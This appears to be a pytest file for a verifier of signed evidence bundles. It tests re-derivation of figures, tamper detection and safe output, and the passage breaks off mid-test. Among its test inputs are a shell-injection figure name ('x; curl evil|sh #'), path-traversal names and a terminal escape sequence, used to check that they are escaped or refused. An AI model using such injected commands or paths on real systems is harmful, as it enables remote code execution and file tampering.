"""Verify: what a stranger's program says of a bundle, figure by figure, and what it refuses."""

from __future__ import annotations

import json
import runpy
from decimal import Decimal

import pytest
from tests.evidence.small_bundle import FIGURES, KEY, LOG, LOSS, RED, bundle, entry, figure, rebagged

from watchkeeper.evidence import verify
from watchkeeper.evidence.note import Signer
from watchkeeper.values import amount
from watchkeeper.values.digest import of_bytes


def verdicts(files):
    outcome = verify.check(files)
    return {one.figure: one.verdict for one in outcome.verdicts}


def one(told, **more):
    """Return the verdict on a single figure over the small log."""
    outcome = verify.check(bundle({"f": told}, **more))
    assert outcome.faults == []
    (found,) = outcome.verdicts
    return found


def faults(files):
    return " ".join(verify.check(files).faults)


def changed(files, name, data):
    return rebagged({**files, name: data})


def swapped(files, name, old, new):
    assert old in files[name]
    return changed(files, name, files[name].replace(old, new))


def test_each_figure_gets_its_verdict_and_the_bundle_is_sound():
    outcome = verify.check(bundle())
    assert (outcome.sound, outcome.faults) == (True, [])
    assert verdicts(bundle()) == {**dict.fromkeys(FIGURES, "RE-DERIVED"), "withheld": "WITHHELD"}
    assert outcome.record.verifier.fingerprint == Signer("", KEY).verifier.fingerprint


def test_two_figures_are_got_again_by_hand():
    # 81,000,000.00 + 1,000,000.00 and 81,000,000.00 + 2,500,000.00 dollars, logged in cents
    assert Decimal(8100000000) + Decimal(100000000) == Decimal(82000000) * 100
    assert Decimal(8100000000) + Decimal(250000000) == Decimal(83500000) * 100
    assert one(FIGURES["loss"]).value == "82000000 to 83500000 USD"


def test_a_figure_that_says_another_number_than_its_steps_fails():
    told = one(FIGURES["instances"] | {"value": 3, "values": {"instances": 3}})
    assert (told.verdict, told.why) == ("FAILED", "instances is printed as 3, and its steps give 2")


def test_a_cent_too_much_at_either_end_fails():
    for end, wrong in (("low", "82000000.01"), ("high", "83499999.99")):
        value = FIGURES["loss"]["value"] | {end: wrong}
        told = one(FIGURES["loss"] | {"value": value, "values": {"loss": value}})
        assert told.verdict == "FAILED"
        assert wrong in told.why


def test_an_amount_of_one_end_is_checked_as_one_number():
    value = {"low": "83500000", "high": "83500000", "unit": "USD"}
    assert one(figure("f", {"up_to": value}, {"up_to": LOSS["high"]})).verdict == "RE-DERIVED"


def test_what_no_claim_states_is_not_stated():
    nothing = {end: {**LOSS[end], "over": []} for end in LOSS}
    assert one(figure("f", {"taken": None}, {"taken": nothing})).value == "not stated"
    assert one(figure("f", {"taken": None}, {"taken": nothing["low"]})).verdict == "RE-DERIVED"
    assert one(figure("f", {"taken": None}, {"taken": LOSS})).verdict == "FAILED"


def test_tallies_are_added_up_and_differences_taken():
    sum_ = {"op": "sum", "of": "value", "over": ["t-1"]}
    steps = {"sum": sum_, "more": {"op": "difference", "of": [sum_, {"op": "count", "over": "ids"}]}}
    assert one(figure("f", {"sum": 7, "more": 5}, steps)).verdict == "RE-DERIVED"


FOUND = [
    entry("finding", "f-1", received="1500000000000000001", unit="ETH", usd_cents=466490, subject="a"),
    entry("finding", "f-2", received="2", unit="ETH", usd_cents=0, subject="b"),
    entry("label", "l-1", label="Example Exchange", address="a", checked="text"),
    entry("trace", "heist", method="fifo"),
]
NO_CLAIMS = {"ids": ["f-1", "f-2"], "claims": ["l-1"], "basis": {"cited": 1}, "checked": {"text": 1}}


def added(of, unit):
    return {"op": "sum", "of": of, "unit": unit, "over": ["f-1", "f-2"]}


def amount_of(number, unit):
    return {"low": number, "high": number, "unit": unit}


def test_what_a_trace_found_is_added_up_to_the_wei_and_valued_in_cents_beside_it():
    values = {"received": amount_of("1.500000000000000003", "ETH"), "worth": amount_of("4664.90", "USD")}
    steps = {"received": added("received", "ETH"), "worth": added("usd_cents", "USD")}
    told = figure("proceeds.received", values, steps, trace="heist", **NO_CLAIMS)
    assert one(told, log=FOUND).verdict == "RE-DERIVED"
    wrong = {**values, "received": amount_of("1.500000000000000002", "ETH")}
    assert one(told | {"values": wrong, "value": wrong["received"]}, log=FOUND).verdict == "FAILED"
    in_dollars = {"received": added("received", "USD"), "worth": added("usd_cents", "USD")}
    worth = {**values, "received": amount_of("1.5", "USD")}
    refused = one(told | {"values": worth, "value": worth["received"], "derivation": in_dollars}, log=FOUND)
    assert refused.verdict == "FAILED"
    assert "f-1 is added up in USD and is not in that unit" in refused.why


def test_findings_traces_and_labels_are_counted_as_what_they_are():
    steps = {"addresses": {"op": "distinct", "of": "subject", "over": ["f-1", "f-2"]}}
    steps["traces"] = {"op": "count", "over": ["heist"]}
    told = figure("proceeds.method", {"addresses": 2, "traces": 1}, steps, trace="heist", **NO_CLAIMS)
    assert one(told, log=FOUND).verdict == "RE-DERIVED"
    steps["traces"] = {"op": "count", "over": ["heist", "f-1"]}
    assert one(told | {"values": {"addresses": 2, "traces": 2}, "derivation": steps}, log=FOUND).verdict == "FAILED"


def test_a_figure_of_a_trace_that_needs_another_run_names_the_trace():
    told = figure("proceeds.sinks", {"rows": 1}, {}, trace="heist", **NO_CLAIMS)
    found = one(told, log=FOUND)
    assert found.verdict == "RE-RUN NEEDED"
    assert "watchkeeper figure show proceeds.sinks --trace heist --as-of 2026-11-22 --case CASE" in found.why


def test_the_verifier_knows_the_parts_of_every_unit_that_the_ledger_knows():
    ledger = {code: unit.decimals for code, unit in amount.units().items() if unit.kind in ("money", "coin")}
    assert ledger == verify._DECIMALS


def test_claims_are_counted_by_what_they_say():
    steps = {
        "text": {"op": "count", "over": "claims", "where": {"checked": "text"}},
        "cited": {"op": "count", "over": "claims", "where": {"basis": "cited", "published_on": None}},
        "held": {"op": "count", "over": "claims", "where": {"basis": "held"}},
    }
    assert one(figure("f", {"text": 1, "cited": 2, "held": 0}, steps)).verdict == "RE-DERIVED"


def test_a_claim_that_rests_on_a_capture_is_held():
    log = [entry("claim", "c-1", capture=of_bytes(b"abc"), checked="text")]
    told = figure("f", {"n": 1}, {"n": {"op": "count", "over": "claims", "where": {"basis": "held"}}}, claims=["c-1"])
    assert one(told | {"basis": {"held": 1}, "checked": {"text": 1}}, log=log).verdict == "RE-DERIVED"


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"derivation": {"instances": {"op": "count", "over": ["UN19-03", "UN19-03"]}}}, "something is counted twice"),
        ({"derivation": {"instances": {"op": "count", "over": ["UN19-03", "UN19-99"]}}}, '"UN19-99" is counted'),
        ({"value": 5}, "the headline is none of its values"),
        ({"basis": {"held": 2, "cited": 0}}, "of its claims it says"),
        ({"claims": ["c-1", "c-9"]}, "c-9 is named and is not in the record shown"),
        ({"claims": ["c-1", "c-secret"]}, "c-secret is named and is not in the record shown"),
        ({"derivation": {"instances": {"op": "count"}}}, "the figure is malformed"),
        ({"values": None}, "the figure is malformed"),
        ({"derivation": {"instances": LOSS["low"]}}, "is printed in None, and its steps are in USD"),
        ({"derivation": {"instances": {"op": "sum", "of": "value", "over": ["c-3"]}}}, "'BD' is no number"),
        ({"derivation": {"instances": {"op": "count", "over": ["UN19-03", "c-1"]}}}, "of different kinds"),
        ({"value": "2e0", "values": {"instances": "2e0"}}, "no number of this kind"),
        ({"value": True, "values": {"instances": True}}, "no number of this kind"),
        (
            {
                "values": {"instances": 2, "table": 2},
                "derivation": {"instances": {"op": "count", "over": "ids"}, "table": {}},
            },
            "bears the name of the table",
        ),
    ],
)
def test_a_figure_that_does_not_follow_fails_with_the_reason(changes, why):
    told = one(FIGURES["instances"] | changes)
    assert told.verdict == "FAILED"
    assert why in told.why


@pytest.mark.parametrize(
    "row", [{"n": 3}, {"n": 2, "low": "1"}, {"low": None}], ids=["count", "amount", "nothing where there is a sum"]
)
def test_a_cell_of_a_table_that_does_not_follow_fails(row):
    rows = [FIGURES["by_state"]["rows"][0] | row]
    told = one(FIGURES["by_state"] | {"rows": rows})
    assert told.verdict == "FAILED"
    assert told.why.startswith("row 1, ")


def test_a_table_with_a_row_too_many_fails():
    told = one(FIGURES["by_state"] | {"rows": FIGURES["by_state"]["rows"] * 2})
    assert (told.verdict, told.why) == ("FAILED", "2 rows are printed, and steps are stated for 1")


@pytest.mark.parametrize(
    ("derivation", "why"),
    [
        ({}, "no steps are stated for instances"),
        ({"instances": {"op": "median", "over": "ids"}}, 'the step "median" is not evaluated here'),
        ({"instances": {"op": "median", "over": []}}, 'the step "median"'),
        ({"instances": {"op": "count", "over": "ids"}, "table": {"op": "table"}}, "its table have no steps"),
    ],
)
def test_what_lies_beyond_the_steps_names_the_command_that_does_it(derivation, why):
    told = one(FIGURES["instances"] | {"derivation": derivation, "edition": "S/2019/691"})
    assert told.verdict == "RE-RUN NEEDED"
    assert why in told.why
    command = "watchkeeper figure show cyber.instances --edition S/2019/691 --as-of 2026-11-22 --case CASE"
    assert told.why.endswith(command)


def test_groups_are_counted_by_words_that_the_claims_hold_or_rows_that_are_proven():
    def counted(*over):
        derivation = FIGURES["by_state"]["derivation"] | {"groups": {"op": "count", "over": list(over)}}
        number = {"value": len(over), "values": {"groups": len(over)}}
        behind = {"claims": ["c-3", "c-4"], "checked": {"text": 2}, "basis": {"held": 1, "cited": 1}}
        return one(FIGURES["by_state"] | number | behind | {"derivation": derivation})

    assert counted("BD", "Bangladesh", "in Dhaka").verdict == "RE-DERIVED"
    assert counted("BD", "Dhaka").why == '"Dhaka" is counted and is not in the record shown'


def test_words_of_rows_without_steps_cannot_be_counted():
    told = FIGURES["states"] | {"value": 1, "values": {"n": 1}, "rows": [{"state": "Atlantis"}]}
    told |= {"derivation": {"n": {"op": "count", "over": ["Atlantis"]}, "table": {"op": "table", "rows": [{}]}}}
    told |= {"columns": [{"name": "state", "label": "State", "unit": None}]}
    assert one(told).why == '"Atlantis" is counted and is not in the record shown'


def test_a_number_in_a_table_without_a_step_is_not_vouched_for():
    for extra, unit in ((4, None), (True, None), ("4", "USD")):
        row = FIGURES["by_state"]["rows"][0] | {"extra": extra}
        columns = [*FIGURES["by_state"]["columns"], {"name": "extra", "label": "Extra", "unit": unit}]
        told = one(FIGURES["by_state"] | {"rows": [row], "columns": columns})
        assert (told.verdict, "row 1 has no steps for extra" in told.why) == ("RE-RUN NEEDED", True)
    hidden = one(FIGURES["by_state"] | {"rows": [FIGURES["by_state"]["rows"][0] | {"extra": 4}]})
    assert (hidden.verdict, hidden.why) == ("FAILED", "row 1 does not have the columns of its table")


def test_an_amount_in_a_unit_whose_parts_are_unknown_needs_the_case():
    steps = {end: {**LOSS[end], "unit": "XBT"} for end in LOSS}
    told = one(figure("f", {"taken": {"low": "1", "high": "2", "unit": "XBT"}}, {"taken": steps}))
    assert (told.verdict, "the parts of the unit XBT" in told.why) == ("RE-RUN NEEDED", True)


def test_an_amount_printed_in_another_unit_than_its_steps_fails():
    value = FIGURES["loss"]["value"] | {"unit": "BTC"}
    told = one(FIGURES["loss"] | {"value": value, "values": {"loss": value}})
    assert (told.verdict, told.why) == ("FAILED", "loss, low is printed in BTC, and its steps are in USD")
    assert one(FIGURES["loss"] | {"value": {"low": "1"}, "values": {"loss": {"low": "1"}}}).verdict == "FAILED"


def test_amounts_are_compared_to_the_last_digit_however_long_they_are():
    low = f"{10**40}07"
    log = [entry("claim", "c-1", unit="USD", low=low, high=low, checked="text")]
    for printed, verdict in ((f"{10**40}.07", "RE-DERIVED"), (f"{10**40}.08", "FAILED"), ("1e40", "FAILED")):
        value = {"low": printed, "high": printed, "unit": "USD"}
        steps = {"op": "sum", "of": "low", "unit": "USD", "over": ["c-1"]}
        told = figure("f", {"n": value}, {"n": steps}, claims=["c-1"], checked={"text": 1}, basis={"cited": 1})
        assert one(told, log=log).verdict == verdict, printed


def test_a_claim_in_another_unit_than_it_is_added_up_in_fails():
    steps = {end: {**LOSS[end], "over": ["c-3"]} for end in LOSS}
    value = {"low": "1", "high": "2", "unit": "USD"}
    assert one(figure("f", {"n": value}, {"n": steps})).why == "c-3 is added up in USD and is not in that unit"


def test_a_difference_is_taken_within_one_unit():
    usd = LOSS["high"]
    less = {"op": "difference", "of": [LOSS["low"], LOSS["high"]]}
    value = {"low": "-1500000", "high": "-1500000", "unit": "USD"}
    assert one(figure("f", {"n": value}, {"n": less})).verdict == "RE-DERIVED"
    mixed = {"op": "difference", "of": [usd, {"op": "count", "over": "ids"}]}
    assert one(figure("f", {"n": value}, {"n": mixed})).why == "a difference is taken between USD and None"
    half = {"low": "-1500000.50", "high": "-1500000.50", "unit": "USD"}
    assert "its steps give -1500000" in one(figure("f", {"n": half}, {"n": less})).why


def test_what_is_withheld_says_nothing_else():
    for more in ({"value": 3}, {"withheld": 1}, {"withheld": False}):
        assert one(FIGURES["withheld"] | more).verdict == "FAILED"
    assert one(7).verdict == "FAILED"


def test_a_figure_that_would_keep_its_reader_waiting_is_left_to_the_case(monkeypatch):
    monkeypatch.setattr(verify, "_MOST_STEPS", 2)
    assert one(FIGURES["instances"]).why.startswith("its steps look at more ids")


def test_a_claim_of_which_the_quote_is_kept_back_still_gives_the_figure_and_says_so():
    assert one(FIGURES["states"], kept_back=RED | {"body/quote"}).verdict == "RE-DERIVED-REDACTED"


def test_a_field_that_the_steps_need_and_that_is_kept_back_needs_the_case():
    told = one(FIGURES["states"], kept_back=RED | {"body/value"})
    assert (told.verdict, told.why.split(":")[0]) == ("RE-RUN NEEDED", "c-3 keeps back value")


def test_the_statement_logged_first_holds_where_one_id_was_logged_twice():
    again = entry("claim", "c-1", incident_id="UN19-03", low="1", high="1", checked="text", unit="USD")
    assert one(FIGURES["loss"], log=[*LOG, again]).verdict == "RE-DERIVED"
    assert one(FIGURES["loss"], log=[again, *LOG]).verdict == "FAILED"
    files = bundle({"f": FIGURES["loss"]}, log=[*LOG, again])
    lines = files["data/record/statements.jsonl"].splitlines(keepends=True)
    backwards = changed(files, "data/record/statements.jsonl", b"".join(reversed(lines)))
    assert verdicts(backwards) == {"f": "RE-DERIVED"}


def test_every_verdict_has_one_fixed_sentence():
    assert list(verify.MEANINGS) == ["RE-DERIVED", "RE-DERIVED-REDACTED", "RE-RUN NEEDED", "WITHHELD", "FAILED"]
    assert all(words.endswith(".") for words in (*verify.MEANINGS.values(), verify.CAUTION))


# --- the record ---


def test_a_changed_field_is_not_in_the_log():
    files = swapped(bundle(), "data/record/statements.jsonl", b'"8100000000"', b'"8100000001"')
    assert "Statement 3 (claim c-1) is not in the log as it is shown here" in faults(files)


def test_a_statement_under_another_proof_or_twice_is_refused():
    files = bundle()
    other = changed(files, "data/record/proofs/000000003.tlog-proof", files["data/record/proofs/000000004.tlog-proof"])
    assert "proof of statement 3 is another statement's" in faults(other)
    line = files["data/record/statements.jsonl"].splitlines(keepends=True)[0]
    twice = changed(files, "data/record/statements.jsonl", line + files["data/record/statements.jsonl"])
    assert "or it stands twice" in faults(twice)


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b'"index":3', b'"index":-3'),
        (b'"index":3', b'"index":3.0'),
        (b'"index":3', b'"index":true'),
        (b'"index":3', b'"index":3,"index":3'),
        (b'"closed":{"by"', b'"closed":{"at"'),
        (b'"closed":{"by"', b'"closed":{"b y"'),
        (b'"closed":{', b'"closed":{"x":"y",'),
        (b'"opened":{', b'"opened":{"a":["zz","b"],'),
        (b'"opened":{', b'"opened":{"a":"b",'),
        (b'"closed"', b'"kept"'),
        (b"{", b"["),
        (b'"UN19-03"', b"NaN"),
        (b'"UN19-03"', b"1e3"),
    ],
)
def test_a_malformed_statement_is_refused(old, new):
    outcome = verify.check(swapped(bundle(), "data/record/statements.jsonl", old, new))
    assert len(outcome.faults) == 1
    assert (outcome.sound, outcome.verdicts) == (False, [])


@pytest.mark.parametrize("name", ["data/record/key.txt", "data/record/checkpoint", "data/record/statements.jsonl"])
def test_a_record_without_one_of_its_files_is_refused(name):
    files = {inner: data for inner, data in bundle().items() if inner != name}
    assert faults(rebagged(files)) == f"{name} is missing from the bundle."


def test_a_record_that_is_no_text_is_refused():
    assert "data/record/checkpoint is no text" in faults(changed(bundle(), "data/record/checkpoint", b"\xff"))


def test_another_key_makes_another_fingerprint_and_nothing_else_shows_it():
    forged = verify.check(bundle(key=bytes(32)))
    assert forged.sound  # the control: whoever signs anew is caught by the fingerprint alone
    assert forged.record.verifier.fingerprint != Signer("", KEY).verifier.fingerprint


def test_a_checkpoint_signed_by_another_is_refused():
    files, other = bundle(), bundle(key=bytes(32))
    assert "carries no signature of" in faults(
        changed(files, "data/record/checkpoint", other["data/record/checkpoint"])
    )


def test_a_report_that_no_run_in_the_log_made_is_refused():
    files = bundle()
    figures = files["data/report/figures.json"].replace(b'"instances": 2', b'"instances": 3')
    assert "figures.json is not a file that the run in the log made" in faults(
        changed(files, "data/report/figures.json", figures)
    )
    assert "report.pdf is not a file" in faults(changed(files, "data/report/report.pdf", b"another"))
    assert "extra.html is not a file" in faults(changed(files, "data/report/extra.html", b"more"))


def test_a_manifest_that_was_changed_to_fit_is_not_the_one_the_log_names():
    files = bundle()
    (name,) = [inner for inner in files if inner.startswith("data/runs/")]
    assert f"{name} is not the manifest that the log names" in faults(changed(files, name, files[name] + b" "))


def test_a_bundle_without_the_manifest_of_its_run_is_refused():
    files = {name: data for name, data in bundle().items() if not name.startswith("data/runs/")}
    assert "The log vouches for 0 runs whose manifests are in the bundle; it takes one" in faults(rebagged(files))


def test_a_record_that_ends_within_a_line_is_refused():
    name = "data/record/statements.jsonl"
    files = bundle()
    assert "ends within a line" in faults(changed(files, name, files[name].removesuffix(b"\n")))


def test_a_capture_under_another_name_is_refused():
    files = bundle()
    (name,) = [inner for inner in files if inner.startswith("data/captures/")]
    assert f"{name} is not the capture whose name it bears" in faults(changed(files, name, b"abd"))


def test_a_time_stamp_comes_with_a_proof_that_the_log_only_grew_since():
    files = bundle(stamped_at=4)
    outcome = verify.check(files)
    assert (outcome.sound, outcome.stamps) == (True, 1)
    assert b"openssl ts -verify" in files["VERIFY-BY-HAND.txt"]
    for name, data in (("consistency", b""), ("checkpoint", bundle(stamped_at=5)["data/timestamps/001.checkpoint"])):
        assert "stamps no earlier state of this log" in faults(changed(files, f"data/timestamps/001.{name}", data))
    assert "stamps no earlier state" in faults(
        changed(files, "data/timestamps/001.tsr", b"a token over something else")
    )
    without = {name: data for name, data in files.items() if not name.endswith(".tsr")}
    assert "stamps no earlier state" in faults(rebagged(without))
    alone = {name: data for name, data in files.items() if not name.endswith(".checkpoint")}
    assert "001.checkpoint is missing" in faults(rebagged(alone))


def test_a_field_that_is_hidden_is_named_by_the_leaf_and_never_taken_for_not_stated():
    """Whoever passes a bundle on can close a field, and cannot make it seem that it never was."""
    files = bundle()
    lines = [json.loads(line) for line in files["data/record/statements.jsonl"].splitlines()]
    (claim,) = [line for line in lines if line["opened"]["id"][1] == "c-3"]
    salt, value = claim["opened"].pop("body/quote")
    claim["closed"]["body/quote"] = verify.field_digest(salt, "body/quote", value)

    def written():
        text = "".join(json.dumps(line) + "\n" for line in lines)
        return changed(files, "data/record/statements.jsonl", text.encode())

    assert verdicts(written())["states"] == "RE-DERIVED-REDACTED"
    claim["closed"]["key"] = claim["closed"].pop("body/quote")
    assert "is not in the log as it is shown here" in faults(written())
    del claim["closed"]["key"]
    assert "is not in the log as it is shown here" in faults(written())


@pytest.mark.parametrize(
    "name",
    [
        "data/report.pdf", "report.pdf", "CORRECTION.txt", "data/report/../report/report.pdf",
        "data//report/report.pdf", "./data/report/report.pdf", "Data/report/report.pdf", "../evil.sh", "/etc/evil",
        "data/runs/" + "0" * 64 + ".json", "data/captures/" + of_bytes(b"abd"), "data/timestamps/x.tsr",
        "data/record/proofs/000000099.tlog-proof",
    ],
)  # fmt: skip
def test_a_file_that_nothing_signed_speaks_of_is_refused_though_it_is_listed(name):
    files = {**bundle(), name: b"abd"}
    payload = {n: d for n, d in files.items() if n.startswith("data/")}
    tags = {
        n: d
        for n, d in files.items()
        if n not in payload and n not in ("manifest-sha256.txt", "tagmanifest-sha256.txt")
    }
    listed = "".join(f"{of_bytes(d)}  {n}\n" for n, d in payload.items()).encode()
    tags["manifest-sha256.txt"] = listed
    files |= tags
    files["tagmanifest-sha256.txt"] = "".join(f"{of_bytes(d)}  {n}\n" for n, d in tags.items()).encode()
    assert faults(files)


def test_a_report_of_which_a_file_is_left_out_is_refused():
    files = {name: data for name, data in bundle().items() if name != "data/report/report.pdf"}
    assert "report.pdf is not a file that the run in the log made, or is missing" in faults(rebagged(files))


def test_a_key_that_was_renamed_is_refused():
    files = bundle()
    old = Signer("watchkeeper/case-0123456789abcdef", KEY).verifier
    new = verify.Verifier("UnitedNationsPanel", old.key)
    note = files["data/record/checkpoint"].decode()
    body, line = note.rsplit("\u2014 ", 1)
    signature = verify.base64.b64decode(line.split(" ")[1])[4:]
    renamed = f"{body}\u2014 {new.name} {verify.b64(new.key_id + signature)}\n"
    files = changed(files, "data/record/key.txt", f"{new.written()}\n".encode())
    assert "it signed for a log called" in faults(changed(files, "data/record/checkpoint", renamed.encode()))


def test_a_value_may_hold_any_character_that_some_take_for_a_line_end():
    log = [*LOG, entry("claim", "c-9", value="one\u2028two\u2029three\x85four", checked="text")]
    assert verify.check(bundle(log=log)).sound


def test_more_stamps_than_a_bundle_has_are_refused(monkeypatch):
    monkeypatch.setattr(verify, "MOST_STAMPS", 0)
    assert "holds 1 time stamps" in faults(bundle(stamped_at=4))


# --- the container ---


def test_a_bundle_in_a_folder_and_in_a_zip_is_one(tmp_path):
    files = bundle()
    for name, data in files.items():
        path = tmp_path / "b" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    (tmp_path / "b.zip").write_bytes(verify.packed(files, "b"))
    assert verify.load(tmp_path / "b") == verify.load(tmp_path / "b.zip") == files


@pytest.mark.parametrize(
    "name", ["bagit.txt", "manifest-sha256.txt", "tagmanifest-sha256.txt", "README.txt", "verify.py"]
)
def test_a_bag_without_one_of_its_files_is_refused(name):
    files = {inner: data for inner, data in bundle().items() if inner != name}
    assert name in faults(files)


def test_a_file_that_is_not_as_it_is_listed_is_refused():
    for name in ("data/report/report.pdf", "README.txt"):
        assert f"{name} was changed: its SHA-256 is not the one listed" in faults({**bundle(), name: b"another"})


def test_a_file_that_no_list_names_is_refused():
    assert "stray.txt is listed in no manifest" in faults({**bundle(), "stray.txt": b"x"})


@pytest.mark.parametrize(
    "line", [b"x\n", b"0" * 64 + b" data/a\n", b"no end", b"0" * 64 + b"  data/report/report.pdf\n", b"\xff\n"]
)
def test_a_list_that_is_no_list_is_refused(line):
    files = bundle()
    assert "manifest-sha256.txt" in faults({**files, "manifest-sha256.txt": files["manifest-sha256.txt"] + line})


def test_a_file_in_the_wrong_list_is_refused():
    files = bundle()
    tags = files["tagmanifest-sha256.txt"] + files["manifest-sha256.txt"].splitlines(keepends=True)[0]
    assert "or in the wrong one" in faults({**files, "tagmanifest-sha256.txt": tags})


@pytest.mark.parametrize(
    ("text", "why"),
    [
        (b'{"figures": {}}', "holds no figure"),
        (b"[]", "malformed"),
        (b"{", "cannot be read"),
        (b'{"figures": 1}', "malformed"),
        (b"[" * 100_000, "cannot be read"),
        (b'{"figures": {"\\ud800": 1}}', "cannot be read"),
    ],
)
def test_figures_that_are_none_are_refused(text, why):
    files = bundle()
    (name,) = [inner for inner in files if inner.startswith("data/runs/")]
    assert why in " ".join(_signed_anew(text).faults)
    assert name in files


def _signed_anew(text):
    """Check a bundle whose own log vouches for a figures.json of these bytes."""
    from tests.evidence import small_bundle

    class Raw:
        @staticmethod
        def dumps(value):
            return text.decode() if "figures" in value else json.dumps(value)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(small_bundle, "json", Raw)
        return verify.check(bundle())


@pytest.mark.parametrize(
    "spoil",
    [
        lambda data: data[:-1],
        lambda data: data + b"\x00",
        lambda data: b"",
        lambda data: data.replace(b"\x00\x00!\x00", b"\x00\x00\x22\x00", 1),
    ],
    ids=["cut", "longer", "empty", "a date"],
)
def test_a_zip_of_which_a_byte_is_another_is_refused(tmp_path, spoil):
    data = verify.packed(bundle(), "b")
    assert spoil(data) != data
    (tmp_path / "b.zip").write_bytes(spoil(data))
    with pytest.raises(verify.Failed, match=r"The \.zip"):
        verify.load(tmp_path / "b.zip")


def test_a_zip_that_was_packed_again_with_compression_is_refused(tmp_path):
    import zipfile

    with zipfile.ZipFile(tmp_path / "b.zip", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("b/bagit.txt", "x" * 1000)
    with pytest.raises(verify.Failed, match="compressed or encrypted"):
        verify.load(tmp_path / "b.zip")


def test_a_zip_that_is_encrypted_says_how_its_reader_opens_it(tmp_path):
    (tmp_path / "b.zip.age").write_bytes(b"age-encryption.org/v1\n-> X25519 ...")
    with pytest.raises(verify.Failed, match="encrypted with age; its reader opens it first: age --decrypt"):
        verify.load(tmp_path / "b.zip.age")


@pytest.mark.parametrize("name", ["", "..", ".hidden", "a b", "\u65e5"])
def test_a_zip_that_does_not_hold_one_folder_is_refused(tmp_path, name):
    (tmp_path / "b.zip").write_bytes(verify.packed(bundle(), name))
    with pytest.raises(verify.Failed, match="does not hold one folder of plain files"):
        verify.load(tmp_path / "b.zip")


def test_a_folder_with_a_link_or_with_too_much_is_refused(tmp_path, monkeypatch):
    (tmp_path / "a").write_text("x")
    monkeypatch.setattr(verify, "_MOST_FILES", 0)
    with pytest.raises(verify.Failed, match="holds more than a bundle does"):
        verify.load(tmp_path)
    (tmp_path / "0").symlink_to("/etc/hostname")
    with pytest.raises(verify.Failed, match="no plain file"):
        verify.load(tmp_path)
    with pytest.raises(verify.Failed, match="no folder and no file"):
        verify.load(tmp_path / "nowhere")


# --- the program ---


def written(tmp_path, files):
    path = tmp_path / "b.zip"
    path.write_bytes(verify.packed(files, "b"))
    return path


def test_the_program_prints_each_verdict_with_its_meaning_and_ends_with_zero(tmp_path, capsysbinary):
    assert verify.main([str(written(tmp_path, bundle()))]) == 0
    told = capsysbinary.readouterr().out.decode()
    assert "RE-DERIVED           loss       82000000 to 83500000 USD" in told
    assert f"4 RE-DERIVED: {verify.MEANINGS['RE-DERIVED']}" in told
    assert verify.CAUTION in told
    assert "not sound" not in told


def test_the_program_ends_with_five_and_says_so_if_anything_failed(tmp_path, capsysbinary):
    told = FIGURES["instances"] | {"value": 3, "values": {"instances": 3}}
    assert verify.main([str(written(tmp_path, bundle({"f": told})))]) == 5
    assert b"This bundle is not sound" in capsysbinary.readouterr().out
    assert verify.main([str(tmp_path / "nowhere")]) == 5
    assert b"no folder and no file" in capsysbinary.readouterr().out


def test_the_program_is_a_file_that_can_be_started(tmp_path, capsysbinary, monkeypatch):
    monkeypatch.setattr("sys.argv", ["verify.py", str(written(tmp_path, bundle()))])
    with pytest.raises(SystemExit) as ended:
        runpy.run_path(verify.__file__, run_name="__main__")
    assert ended.value.code == 0
    assert verify.CAUTION in capsysbinary.readouterr().out.decode()


def test_an_encrypted_bundle_is_said_to_be_that_and_not_to_be_unsound(tmp_path, capfd):
    (tmp_path / "b.zip.age").write_bytes(b"age-encryption.org/v1\n-> X25519 ...")
    assert verify.main([str(tmp_path / "b.zip.age")]) == 4
    told = capfd.readouterr()
    assert (told.out, told.err.startswith("It is encrypted with age; its reader opens it first")) == ("", True)


def test_the_program_tells_programs_the_same(tmp_path, capsysbinary):
    assert verify.main(["--json", str(written(tmp_path, bundle(stamped_at=4)))]) == 0
    told = json.loads(capsysbinary.readouterr().out)
    assert (told["sound"], told["time_stamps"], told["log"]["size"]) == (True, 1, len(LOG) + 2)
    assert {one["figure"]: one["verdict"] for one in told["figures"]}["withheld"] == "WITHHELD"
    assert verify.main(["--json", str(tmp_path / "nowhere")]) == 5
    assert json.loads(capsysbinary.readouterr().out)["log"] is None


def test_the_program_prints_nothing_that_a_terminal_would_obey(tmp_path, capsysbinary):
    name = "\x1b[2Jf\nkey fingerprint  0000"
    verify.main([str(written(tmp_path, bundle({name: FIGURES["instances"]})))])
    told = capsysbinary.readouterr().out
    assert b"\x1b" not in told
    assert b"<U+001B>[2Jf<U+000A>key" in told
    assert sum(line.startswith(b"key fingerprint") for line in told.splitlines()) == 1


def test_the_command_it_names_can_be_typed_whatever_a_figure_is_called():
    told = one(FIGURES["instances"] | {"derivation": {}, "figure": "x; curl evil|sh #", "as_of": None})
    assert told.why.endswith("watchkeeper figure show 'x; curl evil|sh #' --case CASE")


FINDINGS = [
    entry("finding", f"f-{n}", trace_id="heist", unit="USD", received=received, followed=followed, usd_cents=None)
    for n, (received, followed) in enumerate((("250000", "200000"), ("50000", "50000")))
]
TRACE = entry("trace", "heist", chain="eip155:1", asset="USD", method="fifo")
FOLLOWED = figure(
    "proceeds.followed",
    {"followed": {"low": "2500", "high": "2500", "unit": "USD"}},
    {"followed": {"op": "sum", "of": "followed", "unit": "USD", "over": ["f-0", "f-1"]}},
    claims=[], basis={"held": 0, "cited": 0}, checked={"text": 0, "secondary": 0, "recalled": 0}, trace="heist",
)  # fmt: skip


def traced(log=(*FINDINGS, TRACE), **more):
    return one(FOLLOWED | more, log=[*LOG, *log])


def test_a_sum_over_findings_says_that_a_run_computed_them_and_how_to_run_it_again():
    told = traced()
    assert told.verdict == "RE-DERIVED"
    assert told.why.startswith("it counts or adds up findings, each as a run computed it.")
    assert told.why.endswith(
        "from and to what trace heist says: watchkeeper trace run AGAIN --chain eip155:1 --asset USD --method fifo "
        "--name SET --from SOURCES --to ENDS --reason WHY --case CASE"
    )
    assert "--method '?'" in traced(FINDINGS).why  # the trace itself is not shown
    assert not one(FIGURES["loss"]).why  # claims are what a source says, and nothing computed them


def test_the_name_of_a_trace_cannot_make_lines_of_its_own():
    forged = bundle({"f": FOLLOWED | {"trace": "x\nRE-DERIVED everything"}}, log=[*LOG, *FINDINGS])
    assert not any(line.startswith("RE-DERIVED everything") for line in verify.lines(verify.check(forged)))


def test_what_is_true_of_several_figures_of_a_trace_is_told_once():
